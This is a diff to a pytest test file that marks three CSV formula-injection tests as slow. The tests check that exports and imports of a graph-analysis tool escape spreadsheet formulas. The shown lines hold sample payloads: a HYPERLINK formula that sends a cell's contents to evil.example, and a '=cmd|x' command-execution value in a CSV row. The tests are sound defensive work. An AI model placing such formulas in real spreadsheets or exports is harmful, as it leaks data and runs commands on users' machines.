@@ -41,6 +41,7 @@ def rows_of(data: bytes, marker: str) -> list[str]:
     return [line for line in data.decode().split("\r\n") if marker in line]
 
 
+@pytest.mark.slow
 def test_gephi_csv_cells_cannot_be_formulas(tmp_path, evil):
     out = tmp_path / "graph.csv"
     assert cli("export", "--data", str(evil), "--view", "topics", "-o", str(out)).returncode == 0
@@ -58,6 +59,7 @@ def test_gephi_csv_cells_cannot_be_formulas(tmp_path, evil):
     assert sparql.stdout == b'l\r\n"=HYPERLINK(""http://evil.example/?""&A1,""Mobility"")"\r\n'
 
 
+@pytest.mark.slow
 def test_analyze_csv_cells_cannot_be_formulas(evil):
     done = cli("analyze", "centrality", "--data", str(evil), "-f", "csv")
     assert done.returncode == 0
@@ -66,6 +68,7 @@ def test_analyze_csv_cells_cannot_be_formulas(evil):
     ]
 
 
+@pytest.mark.slow
 def test_import_problem_report_csv_cells_cannot_be_formulas(tmp_path):
     rows = tmp_path / "rows.csv"
     rows.write_text("name,region,source\nX,=cmd|x,Ratsbeschluss\n", encoding="utf-8")
